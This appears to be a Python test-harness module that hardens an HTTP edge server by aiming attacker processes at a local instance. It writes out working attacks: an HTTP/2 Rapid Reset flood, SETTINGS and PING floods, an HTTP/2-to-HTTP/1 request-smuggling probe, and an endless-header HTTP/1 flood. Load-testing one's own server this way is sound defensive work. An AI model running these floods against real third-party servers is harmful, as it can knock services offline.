"""The peers bench/hardening.py runs in processes of their own: the normal client, whose latency
must not include the harness's own work, and the attackers that flood (raw HTTP/2 frames over TLS,
a never-ending HTTP/1 head), killed if they overrun their deadline.

Frames are written by hand (9-byte header + payload) and headers encoded with hpack, so a flood
goes at the speed the edge reads it, not at the speed of a client state machine.
"""

from __future__ import annotations

import multiprocessing
import os
import queue
import select
import socket
import ssl
import time
from collections import Counter
from collections.abc import Callable

import httpx
from hpack import Decoder, Encoder

BROWSER_UA = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
HOST = "shop.example"

# ---------------------------------------------------------------- processes

_CTX = multiprocessing.get_context("forkserver")


class Child:
    """`fn(*args)` in a forked process; `result()` returns its dict, or an error after `timeout`
    (the process is killed then: an attack that hangs cannot hang the harness)."""

    def __init__(self, fn: Callable[..., dict], *args, nice: int = 0) -> None:
        self._queue = _CTX.Queue()
        self._proc = _CTX.Process(target=_entry, args=(self._queue, fn, args, nice), daemon=True)
        self._proc.start()

    def result(self, timeout: float) -> dict:
        try:
            out = self._queue.get(timeout=timeout)
        except queue.Empty:
            out = {"error": f"no result within {timeout:.0f} s (killed)"}
        self._proc.join(2)
        if self._proc.is_alive():
            self._proc.kill()
            self._proc.join()
        return out


def _entry(out, fn, args, nice: int) -> None:
    if nice:
        os.nice(nice)           # attackers yield the harness's core to the normal client
    try:
        out.put(fn(*args))
    except BaseException as e:  # noqa: BLE001 - reported in the table, never raised
        out.put({"error": f"{type(e).__name__}: {e}"})


def stop_event():
    return _CTX.Event()


def preload() -> None:
    _CTX.set_forkserver_preload([__name__, "httpx", "hpack"])


# ---------------------------------------------------------------- the normal client

def browse(url: str, rate: float, stop, max_seconds: float) -> dict:
    """A visitor on one keep-alive connection, `rate` requests/s (no catch-up bursts after a
    stall): (start time, ms, status or error name) per request."""
    samples = []
    with httpx.Client(headers={"Host": HOST, "User-Agent": BROWSER_UA}, timeout=5) as client:
        start = time.monotonic()
        due = start
        while not stop.is_set() and time.monotonic() - start < max_seconds:
            t = time.monotonic()
            try:
                status: int | str = client.get(url).status_code
            except httpx.TimeoutException:
                status = "timeout"
            except httpx.HTTPError as e:
                status = type(e).__name__
            samples.append((t, (time.monotonic() - t) * 1000, status))
            due = max(due + 1 / rate, time.monotonic())
            stop.wait(max(0.0, due - time.monotonic()))
    return {"samples": samples}


# ---------------------------------------------------------------- HTTP/2 by hand

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
H2_ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL",
             11: "ENHANCE_YOUR_CALM"}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


class H2Raw:
    """One HTTP/2 connection over TLS driven frame by frame, without blocking: `send` queues,
    `pump` moves bytes both ways and parses what the edge sent (statuses, RSTs, GOAWAY)."""

    def __init__(self, port: int, timeout: float = 5.0) -> None:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.sock.setblocking(False)
        self._in, self._out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = ctx.wrap_bio(self._in, self._out, server_hostname=HOST)
        self._pending = bytearray()
        self._buf = bytearray()
        self._decoder = Decoder()
        self.closed = False
        self.frames: Counter = Counter()
        self.statuses: dict[int, str] = {}
        self.goaway: str | None = None
        deadline = time.monotonic() + timeout
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._pending += self._out.read()
                self._flush()
                if time.monotonic() > deadline or self.closed:
                    raise TimeoutError("TLS handshake did not finish")
                self._transfer(0.05)
        self._pending += self._out.read()
        if self.tls.selected_alpn_protocol() != "h2":
            raise ConnectionError(f"edge chose ALPN {self.tls.selected_alpn_protocol()!r}, not h2")
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        while not self.frames[SETTINGS] and time.monotonic() < deadline and not self.closed:
            self.pump(0.05)
        self.send(frame(SETTINGS, ACK, 0))

    @property
    def backlog(self) -> int:
        return len(self._pending)

    def send(self, data: bytes) -> None:
        if not self.closed:
            self.tls.write(data)
            self._pending += self._out.read()
            self._flush()

    def pump(self, wait: float = 0.0) -> None:
        self._transfer(wait)
        while True:
            try:
                data = self.tls.read(1 << 16)
            except (ssl.SSLWantReadError, ssl.SSLZeroReturnError, ssl.SSLError):
                break
            if not data:
                break
            self._parse(data)
        self._pending += self._out.read()       # TLS records the reads produced (key updates)
        self._flush()

    def _transfer(self, wait: float) -> None:
        if self.closed:
            return
        writable = [self.sock] if self._pending else []
        readable, _, _ = select.select([self.sock], writable, [], wait)
        if readable:
            try:
                data = self.sock.recv(1 << 18)
            except BlockingIOError:
                data = None
            except OSError:
                data = b""
            if data == b"":
                self.closed = True
            elif data:
                self._in.write(data)
        self._flush()

    def _flush(self) -> None:
        while self._pending and not self.closed:
            try:
                n = self.sock.send(self._pending)
            except BlockingIOError:
                return
            except OSError:
                self.closed = True
                return
            del self._pending[:n]

    def _parse(self, data: bytes) -> None:
        self._buf += data
        pos = 0
        while len(self._buf) - pos >= 9:
            length = int.from_bytes(self._buf[pos:pos + 3], "big")
            if len(self._buf) - pos < 9 + length:
                break
            kind, flags = self._buf[pos + 3], self._buf[pos + 4]
            stream = int.from_bytes(self._buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = bytes(self._buf[pos + 9:pos + 9 + length])
            pos += 9 + length
            self.frames[kind] += 1
            if kind == HEADERS:     # decoded even when unused, to keep HPACK in step
                self._headers(stream, flags, payload)
            elif kind == GOAWAY:
                code = int.from_bytes(payload[4:8], "big")
                self.goaway = H2_ERRORS.get(code, str(code))
        del self._buf[:pos]

    def _headers(self, stream: int, flags: int, payload: bytes) -> None:
        if flags & 0x8:                                  # PADDED
            payload = payload[1:len(payload) - payload[0]]
        if flags & 0x20:                                 # PRIORITY
            payload = payload[5:]
        try:
            headers = dict(self._decoder.decode(payload))
        except Exception:  # noqa: BLE001 - a block split over CONTINUATION frames: status unknown
            self.statuses[stream] = "?"
            return
        if ":status" in headers:
            self.statuses[stream] = headers[":status"]

    def close(self) -> None:
        self.sock.close()


def request_block(encoder: Encoder, method: str, path: str) -> bytes:
    return encoder.encode([(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path),
                           ("user-agent", BROWSER_UA)])


def h2_smuggle(port: int, copies: int) -> dict:
    """A POST over HTTP/2 with a body and no content-length; the body is `copies` HTTP/1 requests."""
    c = H2Raw(port)
    body = b"GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n" * copies
    c.send(frame(HEADERS, END_HEADERS, 1, request_block(Encoder(), "POST", "/h2/upload"))
           + frame(DATA, END_STREAM, 1, body))
    deadline = time.monotonic() + 5
    while 1 not in c.statuses and not c.closed and time.monotonic() < deadline:
        c.pump(0.05)
    c.close()
    return {"status": c.statuses.get(1, "none"), "goaway": c.goaway}


def rapid_reset(port: int, pairs: int, seconds: float) -> dict:
    """HEADERS (a complete GET) then RST_STREAM(CANCEL) for `pairs` new streams, as fast as the
    edge reads, stopping at `seconds`."""
    c = H2Raw(port)
    enc = Encoder()
    batches, batch = [], bytearray()
    for i in range(pairs):
        stream = 1 + 2 * i
        batch += frame(HEADERS, END_HEADERS | END_STREAM, stream, request_block(enc, "GET", f"/rr?i={i}"))
        batch += frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
        if len(batch) > 32768 or i == pairs - 1:
            batches.append((i + 1, bytes(batch)))
            batch = bytearray()
    start = time.monotonic()
    sent = 0
    for count, data in batches:
        while c.backlog > 1 << 20 and not c.closed and time.monotonic() - start < seconds:
            c.pump(0.01)
        if c.closed or time.monotonic() - start >= seconds:
            break
        c.send(data)
        sent = count
        c.pump()
    while c.backlog and not c.closed and time.monotonic() - start < seconds:
        c.pump(0.01)
    took = time.monotonic() - start
    end = time.monotonic() + 0.5
    while not c.closed and time.monotonic() < end:
        c.pump(0.05)
    c.close()
    return {"sent": sent, "seconds": took, "goaway": c.goaway, "closed": c.closed,
            "answered": len(c.statuses)}


def control_flood(port: int, kind: str, seconds: float) -> dict:
    """SETTINGS or PING frames as fast as the edge reads them for `seconds`, reading its ACKs."""
    c = H2Raw(port)
    one = frame(SETTINGS, 0, 0, (3).to_bytes(2, "big") + (100).to_bytes(4, "big")) if kind == "settings" \
        else frame(PING, 0, 0, b"12345678")
    batch = one * 2000
    start = time.monotonic()
    sent = 0
    while not c.closed and time.monotonic() - start < seconds:
        if c.backlog < 1 << 20:
            c.send(batch)
            sent += 2000
        c.pump(0.0 if c.backlog < 1 << 20 else 0.01)
    end = time.monotonic() + 0.5
    while not c.closed and time.monotonic() < end:
        c.pump(0.05)
    acks = c.frames[SETTINGS] - 1 if kind == "settings" else c.frames[PING]
    c.close()
    return {"sent": sent, "acks": acks, "goaway": c.goaway, "closed": c.closed}


# ---------------------------------------------------------------- HTTP/1 floods

def huge_head(port: int, limit: int, seconds: float) -> dict:
    """One header line that never ends: up to `limit` bytes as fast as the edge reads, until
    `seconds` pass or the edge hangs up; then whatever it answered."""
    chunk = b"a" * (1 << 20)
    sent = 0
    cut = "no"
    start = time.monotonic()
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        s.settimeout(0.25)
        s.sendall(f"GET /good HTTP/1.1\r\nHost: {HOST}\r\nX-Big: ".encode())
        view = memoryview(chunk)
        while sent < limit and time.monotonic() - start < seconds:
            try:
                sent += s.send(view[sent % len(chunk):])
            except socket.timeout:
                continue
            except OSError as e:
                cut = f"yes ({type(e).__name__})"
                break
        took = time.monotonic() - start
        answer = b""
        s.settimeout(1.0)
        try:
            answer = s.recv(4096)
        except OSError:
            pass
    status = answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/") else "none"
    return {"sent": sent, "seconds": took, "cut": cut, "status": status}
